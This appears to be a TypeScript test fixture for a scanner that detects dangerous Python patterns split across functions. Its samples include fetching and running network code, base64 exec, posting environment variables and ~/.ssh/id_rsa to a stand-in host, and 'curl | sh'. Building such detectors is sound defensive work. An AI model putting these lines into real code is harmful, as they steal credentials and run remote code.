import type { Attack } from './split.js';

const CODE = Buffer.from('print("hello")').toString('base64');

/** Inert: hosts are under `.invalid`, payloads print a word. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'code from the network is run',
    rule: 'remote-code',
    give: {
      imports: 'import urllib.request',
      lines: ['value = urllib.request.urlopen("https://files.invalid/a").read()', 'return value'],
    },
    act: { imports: '', lines: ['exec(data)'] },
  },
  {
    name: 'a command from the network is run',
    rule: 'remote-code',
    give: {
      imports: 'import requests',
      lines: ['value = requests.get("https://files.invalid/a").text', 'return value'],
    },
    act: { imports: 'import os', lines: ['os.system(data)'] },
  },
  {
    name: 'decoded code is run',
    rule: 'decoded-execution',
    give: { imports: 'import base64', lines: [`value = base64.b64decode("${CODE}")`, 'return value'] },
    act: { imports: '', lines: ['exec(data)'] },
  },
  {
    name: 'code that is decoded where it is run',
    rule: 'decoded-execution',
    give: { imports: '', lines: [`value = "${CODE}"`, 'return value'] },
    act: { imports: 'import base64', lines: ['exec(base64.b64decode(data).decode())'] },
  },
  {
    name: 'the environment is sent',
    rule: 'secret-exfiltration',
    give: { imports: 'import os', lines: ['value = dict(os.environ)', 'return value'] },
    act: { imports: 'import requests', lines: ['requests.post("https://drop.invalid/", json=data)'] },
  },
  {
    name: 'a secret file is sent',
    rule: 'secret-exfiltration',
    give: {
      imports: 'import os',
      lines: ['value = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'return value'],
    },
    act: {
      imports: 'import urllib.request',
      lines: ['urllib.request.urlopen("https://drop.invalid/", data=data.encode())'],
    },
  },
  {
    name: 'a file is downloaded and run',
    rule: 'download-and-run',
    give: {
      imports: 'import os, tempfile, urllib.request',
      lines: [
        'value = os.path.join(tempfile.gettempdir(), "tool.bin")',
        'urllib.request.urlretrieve("https://files.invalid/tool", value)',
        'return value',
      ],
    },
    act: { imports: 'import subprocess', lines: ['subprocess.Popen([data])'] },
  },
  {
    name: 'a command that downloads is run',
    rule: 'download-and-run',
    give: { imports: '', lines: ['value = "curl -s https://files.invalid/a | sh"', 'return value'] },
    act: { imports: 'import subprocess', lines: ['subprocess.run(data, shell=True)'] },
  },
];
